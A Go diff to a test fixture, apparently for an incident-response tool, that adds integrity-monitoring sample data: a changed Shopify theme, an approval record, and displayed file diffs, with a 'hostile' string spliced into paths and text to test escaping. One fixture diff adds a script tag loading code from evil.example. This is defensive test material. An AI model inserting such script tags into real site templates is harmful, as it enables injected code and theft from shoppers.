@@ -6,6 +6,7 @@ import (
 	"time"
 
 	"github.com/tocsin-ir/tocsin/incident"
+	"github.com/tocsin-ir/tocsin/integrity"
 	"github.com/tocsin-ir/tocsin/internal/desk"
 	"github.com/tocsin-ir/tocsin/internal/desktest"
 	"github.com/tocsin-ir/tocsin/policy"
@@ -113,6 +114,17 @@ func fill(d *desktest.Desk) {
 	for i := range 40 {
 		d.Lines["INC-1"] = append(d.Lines["INC-1"], desk.TimelineLine{ID: fmt.Sprintf("01J%05d", i), At: now.Add(time.Duration(i-40) * time.Minute), Recorded: now,
 			Source: []string{"fact", "event", "log"}[i%3], Kind: "note.added", Principal: "person:lena", Text: fmt.Sprintf("line %d %s", i, hostile), Fact: fmt.Sprintf("01J%05d", i)})
+	}
+	d.Guarded = []desk.SourceState{
+		{Name: "theme", Kind: "shopify-theme", Place: "example.myshopify.com, the published theme", Every: "1h0m0s", State: desk.SourceChanged, Looked: now, Found: "sha256:" + strings.Repeat("b", 64), Files: 75,
+			Approval: &integrity.Approval{Digest: "sha256:" + strings.Repeat("a", 64), Files: 75, By: "person:lena", At: now.Add(-48 * time.Hour), Reason: "release 41 " + hostile},
+			Changes:  []integrity.Change{{Path: "layout/" + hostile, Kind: integrity.Changed}}},
+		{Name: "templates", Kind: "folder", Place: "/srv/app/templates", Every: "10m0s", State: desk.SourceNoBaseline},
+	}
+	was, is := integrity.File{Path: "layout/" + hostile, Size: 180, Digest: "sha256:" + strings.Repeat("c", 64)}, integrity.File{Path: "layout/" + hostile, Size: 232, Digest: "sha256:" + strings.Repeat("d", 64)}
+	d.Shown = []integrity.Shown{
+		{Change: integrity.Change{Path: "layout/" + hostile, Kind: integrity.Changed, Before: &was, After: &is}, Diff: "--- approved\n+++ found\n+<script src=\"https://evil.example\"></script>" + hostile + "\n"},
+		{Change: integrity.Change{Path: "assets/logo.png", Kind: integrity.Changed, Before: &was, After: &is}, Binary: true},
 	}
 	d.Watched = []desk.ProbeRow{
 		{Name: "shop_checkout", Kind: "http-journey", Service: hostile, Signal: "checkout_failure", Every: "1m0s", After: 3, State: "out", Since: now.Add(-43 * time.Minute), Failures: 40, Ran: now,
